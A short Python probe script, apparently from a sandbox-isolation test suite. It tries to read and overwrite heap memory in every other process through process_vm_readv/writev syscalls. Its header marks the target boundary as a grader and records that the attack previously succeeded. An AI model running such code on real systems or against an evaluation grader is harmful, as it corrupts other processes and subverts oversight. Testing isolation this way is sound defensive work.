# Tries: read and write the memory of every other process that it sees
# Boundary: grader
# Before: succeeded
# Cell: devices

import ctypes
import os
import pathlib
import platform

READ, WRITE = {"x86_64": (310, 311), "aarch64": (270, 271)}[platform.machine()]
call = ctypes.CDLL(None, use_errno=True).syscall
call.argtypes = [ctypes.c_long] * 7


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


room = ctypes.create_string_buffer(64)
here = Part(ctypes.addressof(room), 64)
# It was forked from the same program: what lies where is known.
with open("/proc/self/maps") as places:
    heap = next(int(line.split("-")[0], 16) for line in places if "[heap]" in line)
there = Part(heap, 64)
for path in pathlib.Path("/proc").glob("[0-9]*"):
    if int(path.name) != os.getpid():
        for what in (READ, WRITE):
            given = (ctypes.addressof(here), 1, ctypes.addressof(there), 1, 0)
            if call(what, int(path.name), *given) > 0:
                print("REACHED", path.name, room.raw[:16])
